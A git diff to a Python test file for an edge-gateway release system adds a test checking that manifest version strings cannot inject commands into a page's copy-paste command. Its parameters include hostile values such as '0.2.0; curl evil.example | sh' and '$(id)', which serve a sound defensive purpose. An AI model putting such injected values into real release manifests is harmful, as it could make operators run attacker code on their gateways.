@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -12,6 +13,7 @@ from typing import Any
 import pytest
 
 from edge_agent.cli.main import main
+from edge_central.fleet.published import read_releases
 from edge_central.settings import Database
 from edge_central.store.presence_reports import GatewayReport, PresenceState
 from edge_central.web.auth.accounts import Role
@@ -193,3 +195,13 @@ def test_the_share_of_a_published_release_is_that_of_the_gateways(tmp_path: Path
     assert f"For 50% of the gateways that pull: {sizes}" in page
     assert "--version 0.2.0 --key release.key --percent 0" in page
     assert 0 < running < len(share) < 19
+
+
+@pytest.mark.parametrize("version", ["0.2.0; curl evil.example | sh", "$(id)", "0.2.0\n", "--key", ""])
+def test_a_published_version_is_safe_in_a_command_to_copy(tmp_path: Path, version: str) -> None:
+    """No signature was verified: whoever writes to the server of releases could name any version."""
+    manifest = tmp_path / "manifest.json"
+    manifest.write_text(json.dumps({"version": version, "serial": 1, "percent": 50}), encoding="utf-8")
+    assert read_releases([manifest]) == ()
+    manifest.write_text(json.dumps({"version": "0.2.0+b1", "serial": 1, "percent": 50}), encoding="utf-8")
+    assert [each.version for each in read_releases([manifest])] == ["0.2.0+b1"]
